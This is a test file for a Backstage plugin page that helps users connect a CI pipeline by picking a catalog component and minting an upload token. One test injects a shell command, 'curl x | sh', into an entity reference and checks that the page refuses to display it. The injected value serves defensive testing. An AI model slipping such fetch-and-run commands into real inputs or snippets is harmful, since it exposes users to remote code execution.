import { renderTestApp } from '@backstage/frontend-test-utils';
import { catalogApiRef } from '@backstage/plugin-catalog-react';
import { catalogApiMock } from '@backstage/plugin-catalog-react/testUtils';
import { screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { axe } from 'jest-axe';
import plugin from '../index';

describe('connecting a pipeline', () => {
  it('asks for a component, then shows what to copy and where to get a token', async () => {
    renderTestApp({
      features: [plugin],
      apis: [
        [
          catalogApiRef,
          catalogApiMock({
            entities: [
              {
                apiVersion: 'backstage.io/v1alpha1',
                kind: 'Component',
                metadata: { name: 'web-login', namespace: 'default' },
              },
            ],
          }),
        ],
      ],
      initialRouteEntries: ['/ingestion/connect'],
    });
    expect(await screen.findByText('Choose a component')).toBeVisible();
    await userEvent.type(screen.getByRole('combobox'), 'web');
    await userEvent.click(
      await screen.findByRole('option', { name: /web-login/ }),
    );

    expect(
      await screen.findByRole('group', { name: /GitHub Actions/ }),
    ).toHaveTextContent('--entity component:default/web-login');
    expect(
      screen.getByRole('link', { name: 'Mint an upload token' }),
    ).toHaveAttribute(
      'href',
      '/ingestion/tokens?entity=component%3Adefault%2Fweb-login&mint=',
    );
    expect(await axe(screen.getByRole('main'))).toHaveNoViolations();
  });

  it('shows nothing to copy for an address that is no ref', async () => {
    renderTestApp({
      features: [plugin],
      apis: [[catalogApiRef, catalogApiMock({ entities: [] })]],
      initialRouteEntries: [
        `/ingestion/connect?${new URLSearchParams({ entity: 'component:default/a; curl x | sh' })}`,
      ],
    });
    expect(await screen.findByText('Choose a component')).toBeVisible();
    expect(screen.queryByText(/curl x/)).toBeNull();
  });
});
